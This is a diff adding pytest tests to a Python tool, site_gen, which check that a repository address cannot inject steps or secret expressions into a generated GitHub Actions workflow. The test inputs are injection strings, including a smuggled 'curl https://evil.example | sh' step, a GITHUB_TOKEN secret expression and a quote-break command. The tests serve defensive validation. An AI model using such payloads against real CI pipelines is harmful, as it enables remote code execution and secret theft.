@@ -210,3 +210,24 @@ def test_an_install_from_git_is_pinned_to_the_commit_it_recorded() -> None:
     }
     assert from_direct_url(record) == InstallSource("https://github.com/owner/site_gen", COMMIT)
     assert from_direct_url({"url": "https://files.example.org/site_gen-0.1.0.whl"}) is None
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "https://github.com/a/b\n      - run: curl https://evil.example | sh",  # a step of its own
+        "https://github.com/a/b ${{ secrets.GITHUB_TOKEN }}",  # evaluated by GitHub Actions
+        'https://github.com/a/b" && curl evil',
+        "/home/clerk/site_gen",  # a folder CI has not got
+    ],
+)
+def test_a_repository_address_cannot_write_into_the_workflow(tmp_path: Path, address: str) -> None:
+    run = site_gen("init", "minutes", "--repository", address, "--commit", COMMIT, cwd=tmp_path)
+    assert run.returncode != 0 and "is not a repository's address" in run.stderr, run.stderr
+    assert "Traceback" not in run.stderr
+    assert not (tmp_path / "minutes").exists()
+
+
+@pytest.mark.parametrize("remote", ["https://h/x\n  - run: sh", "https://h/${{ secrets.X }}"])
+def test_a_recorded_remote_with_such_characters_is_no_source(remote: str) -> None:
+    assert fetchable(remote) is None
